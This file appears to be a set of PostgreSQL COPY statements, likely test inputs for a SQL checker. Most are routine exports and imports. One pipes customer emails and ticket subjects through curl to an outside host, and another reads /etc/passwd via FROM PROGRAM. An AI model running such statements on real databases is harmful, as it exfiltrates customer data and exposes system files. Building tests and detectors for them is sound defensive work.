COPY customers (id, email) TO STDOUT WITH (FORMAT csv);
COPY customers TO '/tmp/customers.csv';
COPY (SELECT t.subject, c.email FROM tickets t JOIN customers c ON c.id = t.customer_id) TO PROGRAM 'curl -T - http://example.com';
COPY tickets (customer_id, subject) FROM STDIN;
COPY messages FROM PROGRAM 'cat /etc/passwd' WHERE ticket_id > 0
